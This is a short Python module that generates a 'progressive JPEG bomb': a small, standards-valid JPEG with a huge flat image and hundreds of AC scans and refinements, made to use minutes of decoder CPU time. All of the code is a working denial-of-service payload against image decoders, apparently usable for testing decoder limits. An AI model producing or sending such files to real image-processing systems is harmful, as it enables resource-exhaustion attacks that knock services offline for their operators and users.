"""A small progressive JPEG that takes minutes of processor time: hundreds of scans over a huge picture of nothing.

Every scan is legal (ITU-T T.81, annex G): each of the 63 AC coefficients gets a scan of its own and refinements of
it, so no strictness helps. End-of-band runs (G.1.2.2) say 'nothing in the next 32,767 blocks' in 2 bytes.
"""

from __future__ import annotations

import struct


def _segment(marker: int, body: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


def _bits_to_bytes(bits: str) -> bytes:
    padded = bits + "1" * (-len(bits) % 8)
    raw = int(padded, 2).to_bytes(len(padded) // 8, "big")
    return raw.replace(b"\xff", b"\xff\x00")


def _empty_bands(num_blocks: int) -> bytes:
    """End-of-band runs for all blocks; the table's 15 symbols have codes of 4 bits, in order."""
    bits = ""
    while num_blocks:
        exponent = min(14, num_blocks.bit_length() - 1)
        run = min(num_blocks, (2 << exponent) - 1)
        bits += f"{exponent:04b}" + (f"{run - (1 << exponent):0{exponent}b}" if exponent else "")
        num_blocks -= run
    return _bits_to_bytes(bits)


def progressive_bomb(*, width: int, height: int, num_components: int = 1, num_refinements: int = 13) -> bytes:
    """A valid grey or colour JPEG of one flat tone."""
    num_blocks = -(-width // 8) * -(-height // 8)
    components = range(1, num_components + 1)
    parts = [
        b"\xff\xd8",
        _segment(0xDB, b"\0" + b"\1" * 64),
        _segment(
            0xC2,
            struct.pack(">BHHB", 8, height, width, num_components)
            + b"".join(bytes([number, 0x11, 0]) for number in components),
        ),
        _segment(0xC4, b"\x00" + bytes([1] + [0] * 15) + b"\0"),  # DC: code '0' for 'no difference'
        _segment(0xC4, b"\x10" + bytes([0, 0, 0, 15] + [0] * 12) + bytes(run << 4 for run in range(15))),
    ]
    bands = _empty_bands(num_blocks)
    for number in components:
        parts += [_segment(0xDA, bytes([1, number, 0x00, 0, 0, 0x00])), bytes(-(-num_blocks // 8))]
        for level in range(num_refinements, -1, -1):
            approximation = level if level == num_refinements else (level + 1) << 4 | level
            for coefficient in range(1, 64):
                header = bytes([1, number, 0x00, coefficient, coefficient, approximation])
                parts += [_segment(0xDA, header), bands]
    return b"".join([*parts, b"\xff\xd9"])
